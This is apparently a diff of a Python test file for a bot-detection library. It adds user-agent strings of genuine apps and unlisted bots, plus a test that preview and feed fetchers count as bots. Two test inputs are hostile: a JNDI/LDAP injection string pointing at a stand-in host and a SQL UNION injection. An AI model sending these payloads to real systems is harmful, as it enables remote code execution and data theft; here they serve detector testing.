@@ -185,6 +185,31 @@ PEOPLE_IN_TROUBLE = {
     "an old phone": "HAIER-M600/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
     "all that is left of some browsers": "Mozilla/5.0",
     "a player": "VLC/3.0.21 LibVLC/3.0.21",
+    "a player by what it plays": "TeaRadio/2.4",
+    "a player of podcasts": "TeaPod 3.1",
+    "a player that names its maker": "TeaPodcasts/3.1.4 (+https://teahouse.example)",
+    "a player on a desktop that names its maker": "TeaPlayer/12.0 (Windows NT 10.0; Win64; http://www.teahouse.example)",
+    "a phone's app that names its maker": "Teahouse/0.3.8 ios https://teahouse.example",
+    "a loudspeaker's app": "Teahouse_Speaker_500",
+    "a messenger's app on a phone": "WhatsApp/2.20.205.16 Android/9 Device/itel-itel_L5002P",
+    "a messenger's app on a desktop": MAC.replace("Chrome/", "WhatsApp/2.2017.6 Chrome/").replace("Safari/", "Electron/6.1.9 Safari/"),
+    "an app that only a server's name is known of": "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)",
+    "an app with a locale": "Teahouse App/5.5.3 (TEA-NX3; null; es_MX)",
+    "an app with its store": "Teahouse/2.8 (Android 4.3; LGE Mako)[clientidbase=android-google]",
+    "a program for mail": "TeaMail 4.8 (4320) - Licensed Version",
+    "the model of an old phone": "TEAHOUSE-E200",
+    "an old phone with Java": "Mozilla/4.0 LG-TEA750 Java/LGVM/1.1 Profile/MIDP-2.1 (compatible; MSIE 4.01; Windows CE; PPC)",
+    "the screen of an old phone": "TEAHOUSE-TOUCH/A930/Screen-240X320",
+    "a set-top box": "TeaWebKit/531 (Teahouse STB; Linux)",
+    "the engine of a television": "Mozilla/5.0 (Teahouse Ewloe;IR-S/3.0.0) TeaWebkit/2.9.2(KHTML, like Gecko)",
+    "one of the first browsers": "Mozilla/3.0 (TeaPassport/3.15; Teacast)",
+    "a browser of another system": "Mozilla/1.10 [en] (Compatible; RISC OS 3.70; Teagano 1.10)",
+    "compatible, with a system": "Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)",
+    "Konqueror": "Mozilla/5.0 (compatible; Konqueror/3.1-rc5; i686 Linux; 20021219)",
+    "a small browser for Linux": "Teabero (X11; U; Gentoo Linux amd64; en-US) Webkit/2.8.5",
+    "a provider's browser": "Mozilla/5.0 (Windows; U; Windows NT 6.0; de; rv:1.9.1.6) Gecko/20091201 (WEB.DE/1.5) Firefox/3.5.6",
+    "an address in a build": "Mozilla/5.0 (Linux; U; Android 2.3.4; xx; TEA-P698 Build/a@b-c.rev3) AppleWebKit/533.1 Mobile Safari/533.1",
+    "a broken browser": "Mozilla/5.0; iPhone; CPU iPhone OS 8_1_2 like Mac OS X; AppleWebKit/600.1.4; KHTML, like Gecko; Mobile/12B440",
 }  # fmt: skip
 """Genuine clients that look a little like bots."""
 
@@ -210,6 +235,14 @@ UNLISTED_BOTS = {
     "a header's name": f"User-Agent: {MAC}",
     "a name before the agent": f"teahouse/1.0, {MAC}",
     "nothing but a name": "Teapot/1.0",
+    "a server that reads podcasts": "TeaPodcasts/1.0 Podcast Sync (12 subscribers; +https://teahouse.example)",
+    "a service that writes podcasts down": "TeaPod Transcriber 2.0 (https://teahouse.example)",
+    "a comment behind a phone's agent": f"{ANDROID.format('Pixel 8')} (compatible; Tea-AMPHTML)",
+    "by whom": f"{MAC} by Teahouse",
+    "a library with its version": "Mozilla/5.0 (Windows NT 10.0) Java/17.0.2",
+    "compatible with a name": "Mozilla/4.0 (compatible; Teapot Version-3.2)",
+    "a container's client": "podman/5.2.1",
+    "a service of Google's": "Teapartners-Google",
     "an attack": "${jndi:ldap://teahouse.example/a}",
     "another attack": f"{MAC}' UNION ALL SELECT NULL--",
 }
@@ -373,6 +406,12 @@ def test_contract() -> None:
     assert info["ua-parser-builtins"].isdigit()
     assert info["crawler-user-agents"]
     assert (info["bot_patterns"], info["not_bots"]) == (None, None)
+
+
+@pytest.mark.parametrize("agent", ["WhatsApp/2.23.20.0 A", "WhatsApp/2.16.1/i", "Overcast/1.0 Podcast Sync (12 subscribers)"])
+def test_servers_of_an_app_are_bots(agent: str) -> None:
+    """The patterns that spare the apps of the same names still find what fetches previews and feeds for them."""
+    assert "crawler-user-agents" in enriched(agent)["bot_source"]
 
 
 def test_narrowed_patterns_are_still_there() -> None:
